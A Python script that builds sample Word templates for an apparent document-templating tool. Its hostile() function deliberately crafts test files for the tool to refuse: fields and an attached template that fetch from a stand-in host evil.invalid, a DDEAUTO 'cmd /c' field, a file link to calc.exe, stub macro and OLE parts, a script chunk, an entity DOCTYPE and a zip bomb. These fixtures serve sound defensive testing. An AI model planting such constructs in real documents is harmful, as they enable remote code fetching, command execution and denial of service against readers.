"""Makes the templates beside this folder. Needs LibreOffice, python-docx and pandoc; see ../README.md."""

import base64
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm, Pt, RGBColor

HERE = Path(__file__).parent
OUT = HERE.parent


def logo(colour, path):
    """A made-up mark: a square with a white ring."""
    size = 64
    rows = b""
    for y in range(size):
        row = b"\0"
        for x in range(size):
            distance = ((x - 31.5) ** 2 + (y - 31.5) ** 2) ** 0.5
            row += b"\xff\xff\xff" if 14 < distance < 24 else bytes(colour)
        rows += row

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
    )


def runs(paragraph, *pieces):
    """Text in pieces, each a run of its own; a tuple is (text, 'bold')."""
    for piece in pieces:
        text, look = piece if isinstance(piece, tuple) else (piece, "")
        run = paragraph.add_run(text)
        run.bold = True if look == "bold" else None
    return paragraph


def numbered_headings(document, prefix):
    """A list of several levels that numbers the headings by their styles."""
    numbering = document.part.numbering_part.element
    levels = "".join(
        f'<w:lvl w:ilvl="{level}"><w:start w:val="1"/><w:numFmt w:val="decimal"/>'
        f'<w:pStyle w:val="{prefix}{level + 1}"/>'
        f'<w:lvlText w:val="{".".join(f"%{at + 1}" for at in range(level + 1))}"/><w:lvlJc w:val="left"/>'
        f'<w:pPr><w:ind w:left="{567 + 200 * level}" w:hanging="{567 + 200 * level}"/></w:pPr></w:lvl>'
        for level in range(3)
    )
    kind = parse_xml(
        f'<w:abstractNum {nsdecls("w")} w:abstractNumId="90"><w:multiLevelType w:val="multilevel"/>{levels}</w:abstractNum>'
    )
    numbering.insert(0, kind)
    numbering.append(parse_xml(f'<w:num {nsdecls("w")} w:numId="90"><w:abstractNumId w:val="90"/></w:num>'))
    for level in range(3):
        properties = document.styles[f"Heading {level + 1}"].element.get_or_add_pPr()
        number = properties.get_or_add_numPr()
        number.get_or_add_ilvl().val = level
        number.get_or_add_numId().val = 90


def python_docx(path):
    """A ministry's report in Finnish: styles with Finnish ids, a table of data on the cover, text split over runs."""
    with tempfile.TemporaryDirectory() as folder:
        picture = Path(folder) / "logo.png"
        logo((122, 31, 43), picture)
        document = Document()
        section = document.sections[0]
        section.page_width, section.page_height = Cm(21), Cm(29.7)
        section.left_margin = section.right_margin = Cm(3)
        styles = document.styles
        styles["Normal"].font.name = "Times New Roman"
        styles["Normal"].font.size = Pt(11)
        body = styles.add_style("Leipäteksti OM", WD_STYLE_TYPE.PARAGRAPH)
        body.base_style = styles["Normal"]
        body.paragraph_format.left_indent = Cm(1)
        body.paragraph_format.space_after = Pt(8)
        for name in ("Heading 1", "Heading 2", "Heading 3", "Title"):
            styles[name].font.name = "Times New Roman"
            styles[name].font.color.rgb = RGBColor(122, 31, 43)
            fonts = styles[name].element.rPr.rFonts
            for theme in ("asciiTheme", "hAnsiTheme", "eastAsiaTheme", "cstheme"):
                fonts.attrib.pop(qn(f"w:{theme}"), None)
        numbered_headings(document, "Heading")
        # As Word in Finnish names them.
        for name, own in (("Heading 1", "Otsikko1"), ("Heading 2", "Otsikko2"), ("Heading 3", "Otsikko3"), ("Title", "Otsikko")):
            styles[name].element.set(qn("w:styleId"), own)
        for level in document.part.numbering_part.element.iter(qn("w:pStyle")):
            level.set(qn("w:val"), level.get(qn("w:val")).replace("Heading", "Otsikko"))
        for style in styles.element.iter(qn("w:basedOn"), qn("w:next"), qn("w:link")):
            value = style.get(qn("w:val"))
            if value.startswith("Heading") and value[7:].isdigit():
                known = {"Heading1": "Otsikko1", "Heading2": "Otsikko2", "Heading3": "Otsikko3"}
                style.set(qn("w:val"), known.get(value, value))
            elif value == "Title":
                style.set(qn("w:val"), "Otsikko")

        header = section.header.paragraphs[0]
        header.add_run().add_picture(str(picture), width=Cm(1.2))
        header.part.element.find(".//" + qn("wp:docPr")).set("descr", "Esimerkkiministeriön tunnus")
        runs(header, "  Esimerkkiministeriö\t", "{{asia", ("numero", "bold"), "}}")
        runs(section.footer.paragraphs[0], "{{", "julkisuus", "}} · {{päiväys}}")

        title = document.add_paragraph(style="Title")
        runs(title, "{", "{ot", ("sik", "bold"), "ko}", "}")
        table = document.add_table(rows=0, cols=2)
        table.style = "Table Grid"
        for label, place in (
            ("Päiväys", ("{{päi", "väys}}")),
            ("Laatija", ("{{koordinaattori}}, {{virka", "nimike}}")),
            ("Tila", ("{{tila}}",)),
        ):
            row = table.add_row().cells
            row[0].text = label
            runs(row[1].paragraphs[0], *place)
        document.add_paragraph("Sisältö on laadittu ministeriön mallipohjaan.", style="Leipäteksti OM")
        place = document.add_paragraph(style="Leipäteksti OM")
        runs(place, "{{", "sisäl", "tö", "}}")
        document.add_paragraph("Jakelu", style="Heading 1")
        document.add_paragraph("Esimerkkiministeriön kirjaamo", style="Leipäteksti OM")
        document.save(path)


FODT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:loext="urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
<office:font-face-decls><style:font-face style:name="Liberation Sans" svg:font-family="'Liberation Sans'"/></office:font-face-decls>
<office:styles>
<style:default-style style:family="paragraph"><style:text-properties style:font-name="Liberation Sans" fo:font-size="10.5pt" fo:language="sv" fo:country="FI"/></style:default-style>
<style:style style:name="Standard" style:family="paragraph" style:class="text"><style:paragraph-properties fo:margin-bottom="0.25cm" fo:line-height="120%"/></style:style>
<style:style style:name="Heading" style:family="paragraph" style:parent-style-name="Standard"><style:paragraph-properties fo:keep-with-next="always"/><style:text-properties fo:color="#0b5d3b" fo:font-weight="bold"/></style:style>
<style:style style:name="Heading_20_1" style:display-name="Heading 1" style:family="paragraph" style:parent-style-name="Heading" style:default-outline-level="1" style:list-style-name="Outline"><style:paragraph-properties fo:margin-top="0.8cm" fo:margin-bottom="0.3cm"/><style:text-properties fo:font-size="17pt"/></style:style>
<style:style style:name="Heading_20_2" style:display-name="Heading 2" style:family="paragraph" style:parent-style-name="Heading" style:default-outline-level="2" style:list-style-name="Outline"><style:paragraph-properties fo:margin-top="0.5cm" fo:margin-bottom="0.2cm"/><style:text-properties fo:font-size="13pt"/></style:style>
<style:style style:name="Title" style:family="paragraph" style:parent-style-name="Heading"><style:paragraph-properties fo:margin-top="3cm" fo:margin-bottom="0.6cm" fo:border-bottom="2pt solid #0b5d3b" fo:padding-bottom="0.2cm"/><style:text-properties fo:font-size="26pt"/></style:style>
<style:style style:name="Header" style:family="paragraph" style:parent-style-name="Standard"><style:text-properties fo:font-size="9pt"/></style:style>
<style:style style:name="Footer" style:family="paragraph" style:parent-style-name="Standard"><style:paragraph-properties fo:text-align="center"/><style:text-properties fo:font-size="9pt"/></style:style>
<text:outline-style style:name="Outline">
<text:outline-level-style text:level="1" style:num-format="1" style:num-suffix="."><style:list-level-properties text:list-level-position-and-space-mode="label-alignment"><style:list-level-label-alignment text:label-followed-by="listtab" text:list-tab-stop-position="1cm" fo:text-indent="-1cm" fo:margin-left="1cm"/></style:list-level-properties></text:outline-level-style>
<text:outline-level-style text:level="2" style:num-format="1" text:display-levels="2"><style:list-level-properties text:list-level-position-and-space-mode="label-alignment"><style:list-level-label-alignment text:label-followed-by="listtab" text:list-tab-stop-position="1.2cm" fo:text-indent="-1.2cm" fo:margin-left="1.2cm"/></style:list-level-properties></text:outline-level-style>
</text:outline-style>
</office:styles>
<office:automatic-styles>
<style:style style:name="B" style:family="text"><style:text-properties fo:font-weight="bold"/></style:style>
<style:style style:name="I" style:family="text"><style:text-properties fo:font-style="italic"/></style:style>
<style:style style:name="fr" style:family="graphic"><style:graphic-properties draw:fill="none" style:wrap="none" style:vertical-pos="from-top" style:vertical-rel="paragraph" style:horizontal-pos="left" style:horizontal-rel="paragraph" fo:border="0.5pt solid #0b5d3b" fo:padding="0.2cm"/></style:style>
<style:page-layout style:name="pm"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm" fo:margin-top="1.5cm" fo:margin-bottom="1.5cm" fo:margin-left="2.5cm" fo:margin-right="1.5cm"/><style:header-style><style:header-footer-properties fo:min-height="1.6cm" fo:margin-bottom="0.6cm"/></style:header-style><style:footer-style><style:header-footer-properties fo:min-height="1cm" fo:margin-top="0.4cm"/></style:footer-style></style:page-layout>
</office:automatic-styles>
<office:master-styles>
<style:master-page style:name="Standard" style:page-layout-name="pm">
<style:header><text:p text:style-name="Header"><draw:frame text:anchor-type="as-char" svg:width="1.2cm" svg:height="1.2cm" draw:name="Märke"><draw:image><office:binary-data>LOGO</office:binary-data></draw:image><svg:desc>Exempelministeriets märke</svg:desc></draw:frame> Exempelministeriet<text:tab/>{{<text:span text:style-name="B">ärende</text:span>nummer}}</text:p></style:header>
<style:footer><text:p text:style-name="Footer">{{offentlighet}} · <text:page-number text:select-page="current">1</text:page-number></text:p></style:footer>
</style:master-page>
</office:master-styles>
<office:body><office:text>
<text:p text:style-name="Title">{{ru<text:span text:style-name="I">br</text:span>ik}}</text:p>
<text:p text:style-name="Standard"><draw:frame draw:style-name="fr" text:anchor-type="paragraph" svg:width="7cm" draw:name="Ruta"><draw:text-box fo:min-height="1cm"><text:p text:style-name="Standard">{{dat<text:span text:style-name="B">um</text:span>}}, {{koordinator}}</text:p></draw:text-box></draw:frame>Beredare: {{organisation}}</text:p>
<text:h text:style-name="Heading_20_1" text:outline-level="1">Inledning</text:h>
<text:p text:style-name="Standard">Denna handling följer ministeriets mall.</text:p>
<text:p text:style-name="Standard">{{<text:span text:style-name="B">inne</text:span>håll}}</text:p>
</office:text></office:body>
</office:document>
"""


def libre_office(path):
    """A ministry's memorandum in Swedish: numbered outline, a text box, a frame in the header."""
    with tempfile.TemporaryDirectory() as folder:
        picture = Path(folder) / "logo.png"
        logo((11, 93, 59), picture)
        source = Path(folder) / (path.stem + ".fodt")
        source.write_text(FODT.replace("LOGO", base64.b64encode(picture.read_bytes()).decode()))
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "docx", "--outdir", str(path.parent), str(source)],
            check=True,
            stdout=subprocess.DEVNULL,
        )


MARKDOWN = """---
title: "{{ti*tl*e}}"
lang: en-GB
toc: true
---

# About this document

Prepared by {{**co**ordinator}} ({{e**mail**}}) on {{*date*}}.[^1]

1. first of the ministry's own list
2. second of the ministry's own list

{{con**tent**}}

# Annex of the ministry

Case {{case *number*}}.

[^1]: The ministry's own footnote, {{*state*}}.
"""


def pandoc(path):
    """A ministry's report in English: pandoc's own styles with others' colours, a contents list, a list, a footnote."""
    with tempfile.TemporaryDirectory() as folder:
        picture = Path(folder) / "logo.png"
        logo((70, 40, 120), picture)
        reference = Path(folder) / "reference.docx"
        with reference.open("wb") as out:
            subprocess.run(["pandoc", "--print-default-data-file", "reference.docx"], check=True, stdout=out)
        document = Document(reference)
        for style in document.styles:
            if style.style_id in ("Heading1", "Heading2", "Heading3", "Title"):
                style.font.color.rgb = RGBColor(70, 40, 120)
        section = document.sections[0]
        section.page_width, section.page_height = Cm(21), Cm(29.7)
        section.left_margin = section.right_margin = Cm(2.2)
        header = section.header.paragraphs[0]
        header.add_run().add_picture(str(picture), width=Cm(1))
        header.part.element.find(".//" + qn("wp:docPr")).set("descr", "Mark of the Example Ministry")
        runs(header, "  Example Ministry  ", "{{ver", ("sion", "bold"), "}}")
        document.save(reference)
        source = Path(folder) / "source.md"
        source.write_text(MARKDOWN)
        subprocess.run(
            ["pandoc", str(source), "--toc", f"--reference-doc={reference}", "-o", str(path)], check=True
        )


def altered(source, path, changes, added=None, types="", relations=""):
    """A copy with parts changed and parts added."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            if name in changes:
                text = changes[name](data.decode())
                assert text != data.decode(), name
                data = text.encode()
            if name == "[Content_Types].xml":
                data = data.replace(b"</Types>", types.encode() + b"</Types>")
            if name == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", relations.encode() + b"</Relationships>")
            new.writestr(zipfile.ZipInfo(name, (2026, 11, 25, 12, 0, 0)), data, zipfile.ZIP_DEFLATED)
        for name, data in (added or {}).items():
            new.writestr(zipfile.ZipInfo(name, (2026, 11, 25, 12, 0, 0)), data, zipfile.ZIP_DEFLATED)


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = "word/document.xml"


def faulty():
    """Placeholders with every fault."""
    document = Document()
    document.styles["Normal"].font.name = "Arial"
    runs(document.add_paragraph(), "Asia: {{asia", "numro}}")
    document.add_paragraph("Laatija: {{koordinaattori}")
    document.add_paragraph("Päiväys: {päiväys}")
    document.add_paragraph("{{ministerin terveiset}}")
    table = document.add_table(rows=1, cols=1)
    table.rows[0].cells[0].text = "{{sisältö}}"
    document.add_paragraph("Alku {{sisältö}} loppu")
    document.add_paragraph("{{sisältö}}")
    document.save(OUT / "faulty-placeholders.docx")


def hostile():
    """What runs, fetches or asks; and files that are refused."""
    plain = OUT / "python-docx.docx"
    paragraph = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "https://evil.invalid/a.docx" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>haettu teksti</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="DDEAUTO cmd /c"><w:r><w:t>dde</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>paikallinen linkki</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="900" name="K" descr="Etäkuva"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="k"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdFar"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>'
        '<w:altChunk r:id="rIdChunk"/>'
    )
    relation = lambda id, kind, target, mode="": f'<Relationship Id="{id}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    far = ' TargetMode="External"'
    altered(
        plain,
        OUT / "fetching.docx",
        {
            BODY: lambda xml: xml.replace("<w:sectPr", paragraph + "<w:sectPr", 1),
            "word/settings.xml": lambda xml: xml.replace(
                "<w:zoom", '<w:attachedTemplate xmlns:r="' + OFFICE + '" r:id="rIdTemplate"/><w:zoom', 1
            ),
        },
        {
            "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + relation("rIdTemplate", "attachedTemplate", "https://evil.invalid/remote.dotm", far)
            + "</Relationships>",
            "word/embeddings/ole.bin": b"\xd0\xcf\x11\xe0 not really",
            "word/chunk.html": "<script>alert(1)</script>",
        },
        '<Override PartName="/word/embeddings/ole.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        '<Override PartName="/word/chunk.html" ContentType="text/html"/>',
        relation("rIdFile", "hyperlink", "file:///C:/Windows/System32/calc.exe", far)
        + relation("rIdFar", "image", "https://evil.invalid/pixel.png", far)
        + relation("rIdOle", "oleObject", "embeddings/ole.bin")
        + relation("rIdChunk", "aFChunk", "chunk.html"),
    )
    altered(
        plain,
        OUT / "macros.docm",
        {
            "[Content_Types].xml": lambda xml: xml.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"},
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    )
    altered(
        plain,
        OUT / "entities.docx",
        {BODY: lambda xml: xml.replace("<w:document", '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">]><w:document', 1)},
    )
    altered(plain, OUT / "bomb.docx", {}, {"word/media/bomb.png": b"\0" * 90_000_000})


if __name__ == "__main__":
    python_docx(OUT / "python-docx.docx")
    libre_office(OUT / "libreoffice.docx")
    pandoc(OUT / "pandoc.docx")
    faulty()
    hostile()
    sys.stdout.write("\n".join(sorted(path.name for path in OUT.glob("*.doc*"))) + "\n")
